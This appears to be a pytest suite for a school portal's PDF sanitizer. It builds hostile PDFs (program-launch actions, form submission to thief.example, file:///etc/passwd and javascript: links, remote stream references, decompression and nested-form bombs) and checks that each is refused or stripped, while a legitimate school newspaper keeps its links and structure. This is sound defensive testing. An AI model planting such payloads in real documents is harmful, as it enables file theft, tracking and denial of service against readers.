"""PDF documents: hostile ones, and what a school's newspaper keeps."""

import io
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Object, ObjectStreamMode, Pdf, Stream, String

from portal.core.storage.documents import decode
from portal.core.storage.jpeg import BrokenPicture, without_metadata, without_metadata_2000
from portal.core.storage.kinds import Format, Unfit, UnfitFile
from portal.core.storage.sandbox import decode_in_sandbox
from tests.builders import uploads

Change = Callable[[Pdf], Any]


def document(change: Change | None = None, **options: Any) -> bytes:
    """One page with a line of text."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    pdf.pages[0].Contents = pdf.make_stream(b"0 0 m 300 300 l S")
    if change:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


@pytest.fixture
def cleaned(tmp_path: Path) -> Iterator[Callable[[bytes], Pdf]]:
    """Decodes a document and opens what is shown of it."""
    opened: list[Pdf] = []

    def of(data: bytes) -> Pdf:
        upload = tmp_path / "upload"
        upload.write_bytes(data)
        result = decode(upload, Format.PDF, str(tmp_path / "clean"))
        opened.append(pikepdf.open(result["variants"][0]["path"]))
        return opened[-1]

    yield of
    for pdf in opened:
        pdf.close()


Cleaned = Callable[[bytes], Pdf]


def shown(pdf: Pdf) -> str:
    """All objects of a document as text, and all their data."""
    return "\n".join(repr(one) + (repr(data_of(one)) if isinstance(one, Stream) else "") for one in pdf.objects)


def data_of(stream: Stream) -> bytes:
    return stream.read_raw_bytes() if stream.get("/Subtype") == Name.Image else stream.read_bytes()


ACTIONS = {
    "a program": {"S": Name.Launch, "F": "calc.exe"},
    "a form that is sent": {"S": Name.SubmitForm, "F": "https://thief.example"},
    "another file": {"S": Name.GoToR, "F": "secret.pdf", "D": Array([0])},
    "a local file": {"S": Name.URI, "URI": "file:///etc/passwd"},
    "a script": {"S": Name.URI, "URI": "javascript:alert(1)"},
    "a script with blanks": {"S": Name.URI, "URI": " \tjavascript:alert(1)"},
    "a network folder": {"S": Name.URI, "URI": "\\\\thief.example\\share"},
}


@pytest.mark.parametrize("action", ACTIONS)
def test_an_action_that_calls_itself_a_paragraph_is_refused(cleaned: Cleaned, action: str) -> None:
    def disguise(pdf: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
        link.A = Dictionary({"/Type": Name.StructElem} | {f"/{key}": value for key, value in ACTIONS[action].items()})
        pdf.pages[0].Annots = Array([link])

    with pytest.raises(UnfitFile) as refused:
        cleaned(document(disguise))
    assert refused.value.code == Unfit.ACTIVE_CONTENT


def everything_active(pdf: Pdf) -> None:
    """What no check knows: keys of tomorrow, and keys in places where they do not belong."""
    action = Dictionary(S=Name.Later, Program="calc.exe")
    pdf.Root.Later = action
    page = pdf.pages[0]
    page.Later = action
    page.Annots = Array(
        [
            Dictionary(Type=Name.Annot, Subtype=Name.Later, Rect=[0, 0, 9, 9], A=action),
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action),
            Dictionary(
                Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI="ftp://calc.exe")
            ),
        ]
    )
    page.Resources = Dictionary(Later=action, XObject=Dictionary(Im=pdf.make_stream(b"calc.exe", Subtype=Name.PS)))
    pdf.Root.StructTreeRoot = Dictionary(K=Dictionary(Type=Name.StructElem, S=Name.Later, A=action, Later=action))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary(AS=action))
    pdf.Root.Names = Dictionary(Later=Dictionary(Names=Array(["calc.exe", action])))
    pdf.Root.PageLabels = action


def test_what_is_not_allowed_does_not_exist_in_the_copy(cleaned: Cleaned) -> None:
    text = shown(cleaned(document(everything_active)))
    assert "calc.exe" not in text
    assert "/Later" not in text


def test_data_of_other_files_is_not_asked_for(cleaned: Cleaned) -> None:
    def outside(pdf: Pdf) -> None:
        for stream in (pdf.pages[0].Contents, font := pdf.make_stream(b"font")):
            stream.F, stream.FFilter = "https://thief.example/pixel", Name.FlateDecode
        pdf.pages[0].Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, FontFile=font)))

    pdf = cleaned(document(outside))
    assert "thief.example" not in shown(pdf)
    assert not any({"/F", "/FFilter"} & set(one.keys()) for one in pdf.objects if isinstance(one, Stream))


def picture(pdf: Pdf, data: bytes, filters: Any, **more: Any) -> Stream:
    photo = pdf.make_stream(
        data, Type=Name.XObject, Subtype=Name.Image, Width=60, Height=40, BitsPerComponent=8, **more
    )
    photo.ColorSpace = Name.DeviceRGB
    photo.write(data, filter=filters)
    return photo


def packed_photo(pdf: Pdf) -> None:
    packed = zlib.compress(uploads.phone_photo()).hex().encode() + b">"
    photo = picture(pdf, packed, Array([Name.ASCIIHexDecode, Name.FlateDecode, Name.DCTDecode]))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=photo))


def photo_in_a_form(pdf: Pdf) -> None:
    form = pdf.make_stream(b"/Im0 Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Resources = Dictionary(XObject=Dictionary(Im0=picture(pdf, uploads.phone_photo(), Name.DCTDecode)))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Fm0=form))


def photo_as_mask(pdf: Pdf) -> None:
    mask = picture(pdf, uploads.phone_photo(), Name.DCTDecode)
    photo = picture(pdf, bytes(60 * 40 * 3), None, SMask=mask)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=photo))


def photo_within_the_page(pdf: Pdf) -> None:
    head = b"q 90 0 0 60 0 0 cm BI /W 60 /H 40 /BPC 8 /CS /RGB /F /DCT ID "
    pdf.pages[0].Contents = pdf.make_stream(head + uploads.phone_photo() + b"\nEI Q")


def photo_with_an_end(pdf: Pdf) -> None:
    photo = picture(pdf, uploads.phone_photo() + uploads.SECRETS[0], Name.DCTDecode)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=photo))


PLACES: list[Change] = [packed_photo, photo_in_a_form, photo_as_mask, photo_within_the_page, photo_with_an_end]


@pytest.mark.parametrize("place", PLACES)
def test_photos_lose_where_and_by_whom_they_were_taken(cleaned: Cleaned, place: Change) -> None:
    text = shown(cleaned(document(place, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)))
    assert not [secret for secret in uploads.SECRETS if repr(secret)[2:-1] in text]
    assert "/DCT" in text


def test_a_jpeg_that_is_none_is_refused() -> None:
    for data in (b"", b"\xff\xd8", b"\xff\xd8\xff\xe1\xff\xff", b"GIF89a", b"\xff\xd8\xff\xda\0\2"[:3]):
        with pytest.raises(BrokenPicture):
            without_metadata(data)


def test_a_jpeg_2000_keeps_only_its_picture() -> None:
    def box(kind: bytes, content: bytes) -> bytes:
        return (8 + len(content)).to_bytes(4) + kind + content

    comment = b"\xff\x64\0\x09made by"
    picture = b"\xff\x4f\xff\x51\0\4xx" + b"%s\xff\x90pixels"
    data = box(b"jP  ", b"1234") + box(b"xml ", b"<Anna/>") + box(b"jp2c", picture % comment) + box(b"uuid", b"Anna")
    assert without_metadata_2000(data) == box(b"jP  ", b"1234") + box(b"jp2c", picture % b"")
    assert without_metadata_2000(picture % comment) == picture % b""


def newspaper(pdf: Pdf) -> None:
    pdf.add_blank_page(page_size=(300, 300))
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    web = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.URI, URI="https://school.example/a?b=c:d"),
    )
    inside = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[9, 9, 19, 19], Dest=String("end"))
    first.Annots = Array([web, pdf.make_indirect(inside)])
    pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array(["end", Array([second, Name.Fit])])))
    pdf.Root.Lang = String("pl")
    title = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Headline, Pg=first, Alt="Gazetka", K=0))
    pdf.Root.StructTreeRoot = pdf.make_indirect(
        Dictionary(Type=Name.StructTreeRoot, RoleMap=Dictionary(Headline=Name.H1), K=Array([title]))
    )
    title.P = pdf.Root.StructTreeRoot
    pdf.Root.StructTreeRoot.ParentTree = pdf.make_indirect(Dictionary(Nums=Array([0, Array([title])])))
    hidden = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="Answers"))
    first.Resources = Dictionary(Properties=Dictionary(L0=hidden))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([hidden]), D=Dictionary(OFF=Array([hidden])))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Koniec", 1))


def test_a_newspaper_stays_readable_for_everybody(cleaned: Cleaned) -> None:
    pdf = cleaned(document(newspaper))
    web, inside = pdf.pages[0].Annots
    assert str(web.A.URI) == "https://school.example/a?b=c:d"
    assert inside.Dest[0].objgen == pdf.pages[1].obj.objgen
    assert str(pdf.Root.Lang) == "pl"
    title = pdf.Root.StructTreeRoot.K[0]
    assert (title.S, str(title.Alt), title.Pg.objgen) == (Name.H1, "Gazetka", pdf.pages[0].obj.objgen)
    assert title.P.objgen == pdf.Root.StructTreeRoot.objgen
    assert pdf.Root.StructTreeRoot.ParentTree.Nums[1][0].objgen == title.objgen
    assert pdf.Root.OCProperties.D.OFF[0].objgen == pdf.pages[0].Resources.Properties.L0.objgen
    with pdf.open_outline() as outline:
        assert [item.title for item in outline.root] == ["Koniec"]


def test_what_was_typed_into_a_form_becomes_part_of_the_page(cleaned: Cleaned) -> None:
    def filled_form(pdf: Pdf) -> None:
        look = pdf.make_stream(b"BT (Anna) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 99, 20]))
        field = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="name",
            V="Anna",
            Rect=[0, 0, 99, 20],
            AP=Dictionary(N=look),
        )
        pdf.pages[0].Annots = Array([pdf.make_indirect(field)])
        pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.pages[0].Annots[0]]))

    pdf = cleaned(document(filled_form))
    assert "/Annots" not in pdf.pages[0]
    assert any(b"(Anna) Tj" in one.read_bytes() for one in pdf.objects if isinstance(one, Stream) and "/BBox" in one)


def unpacked_to(n_megabytes: int) -> bytes:
    packing = zlib.compressobj(9)
    pieces = [packing.compress(b" " * 10**6) for _ in range(n_megabytes)]
    return b"".join([*pieces, packing.flush()])


def page_that_unpacks(pdf: Pdf) -> None:
    pdf.pages[0].Contents.write(zlib.compress(unpacked_to(100), 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))


def picture_that_unpacks(pdf: Pdf) -> None:
    photo = picture(pdf, unpacked_to(300), Name.FlateDecode)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=photo))


def picture_of_a_square_kilometre(pdf: Pdf) -> None:
    photo = picture(pdf, b"", Name.FlateDecode)
    photo.Width = photo.Height = 10**6
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=photo))


def forms_in_forms(pdf: Pdf) -> None:
    """Ten levels of ten: ten thousand million lines."""
    inner: Object = pdf.make_stream(b"0 0 m 9 9 l S")
    for _ in range(10):
        inner.Type, inner.Subtype, inner.BBox = Name.XObject, Name.Form, Array([0, 0, 300, 300])
        outer = pdf.make_stream(b"/X Do " * 10, Resources=Dictionary(XObject=Dictionary(X=inner)))
        inner = outer
    pdf.pages[0].Resources = inner.Resources
    pdf.pages[0].Contents = pdf.make_stream(b"/X Do " * 10)


def thousands_of_pages(pdf: Pdf) -> None:
    pages = pdf.Root.Pages
    kinds = Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 9, 9]), Parent=pages, Resources=Dictionary())
    pages.Kids = Array([pdf.make_indirect(Dictionary(dict(kinds.items()))) for _ in range(3000)])
    pages.Count = 3000


def thousands_of_objects(pdf: Pdf) -> None:
    dashes = Object.parse(b"[" + b"[]" * 250_000 + b"]")
    pdf.pages[0].Resources = Dictionary(ExtGState=Dictionary(G0=Dictionary(D=dashes)))


BOMBS: dict[Change, set[Unfit]] = {
    page_that_unpacks: {Unfit.UNREADABLE},
    picture_that_unpacks: {Unfit.TOO_DEMANDING},
    picture_of_a_square_kilometre: {Unfit.TOO_MANY_PIXELS},
    forms_in_forms: {Unfit.TOO_DEMANDING},
    thousands_of_pages: {Unfit.TOO_MANY_PAGES},
    thousands_of_objects: {Unfit.TOO_DEMANDING},
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_small_document_costs_little_whatever_it_unpacks_to(bomb: Change, tmp_path: Path) -> None:
    upload = tmp_path / "upload"
    upload.write_bytes(document(bomb, object_stream_mode=ObjectStreamMode.generate))
    with pytest.raises(UnfitFile) as refused:
        decode_in_sandbox(upload, Format.PDF, tmp_path / "clean")
    assert refused.value.code in BOMBS[bomb]


def test_a_document_gets_less_memory_and_time_than_a_film() -> None:
    code = (
        "import resource; from portal.core.storage.decode import limit_resources; limit_resources(13_000, is_document=True);"
        "print([resource.getrlimit(kind)[1] for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU)])"
    )
    limits = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout
    assert limits == f"[{512 * 1024**2 + 52_000}, 10]\n"
